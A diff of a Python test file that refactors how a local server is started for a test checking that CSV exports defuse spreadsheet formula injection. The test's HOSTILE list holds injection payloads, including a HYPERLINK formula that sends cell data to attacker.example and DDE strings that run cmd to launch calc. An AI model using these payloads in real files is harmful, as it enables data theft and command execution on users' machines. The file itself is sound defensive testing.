@@ -5,9 +5,6 @@ from __future__ import annotations
 
 import csv
 import io
-import subprocess
-import sys
-import time
 import urllib.parse
 
 import pytest
@@ -16,8 +13,9 @@ from corpus import store
 from corpus.db import connect
 from corpus.export import export_table
 from crawler.extract import ArticleItem
-from tests.conftest import ROOT, article_text
-from tests.corpus.conftest import free_port, get
+from tests.conftest import article_text
+from tests.corpus.conftest import get
+from tests.faults.conftest import serving
 
 HOSTILE = ['=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0"]
@@ -51,21 +49,9 @@ def test_export_csv_defuses_formulas(corpus_path, tmp_path):
     assert all(_inert(t) for t in titles)
 
 
-def test_web_excel_csv_defuses_formulas_and_plain_csv_keeps_data(corpus_path, tmp_path):
-    port = free_port()
-    log = tmp_path / "serve.log"
-    process = subprocess.Popen([sys.executable, "-m", "corpus", "serve", "--db", str(corpus_path), "--port", str(port)],
-                               cwd=ROOT, stdout=log.open("w"), stderr=subprocess.STDOUT)
-    base = f"http://127.0.0.1:{port}"
-    try:
-        for _ in range(100):
-            try:
-                if get(base + "/-/versions.json")[0] == 200:
-                    break
-            except OSError:
-                time.sleep(0.2)
-        else:
-            pytest.fail("hdnd serve did not start: " + log.read_text())
+def test_web_excel_csv_defuses_formulas_and_plain_csv_keeps_data(corpus_path):
+    with serving(corpus_path) as port:
+        base = f"http://127.0.0.1:{port}"
         query = urllib.parse.urlencode({"_sort": "id", "_col": "title", "_size": "max"})
         status, excel = get(f"{base}/hdnd/articles.csv?{query}&_bom=1&_stream=on")
         assert status == 200 and excel.startswith(b"\xef\xbb\xbf")
@@ -73,6 +59,3 @@ def test_web_excel_csv_defuses_formulas_and_plain_csv_keeps_data(corpus_path, tm
         assert titles == ["'" + t for t in HOSTILE] + HARMLESS
         plain = get(f"{base}/hdnd/articles.csv?{query}")[1].decode("utf-8")
         assert _titles(plain) == HOSTILE + HARMLESS
-    finally:
-        process.terminate()
-        process.wait(timeout=10)
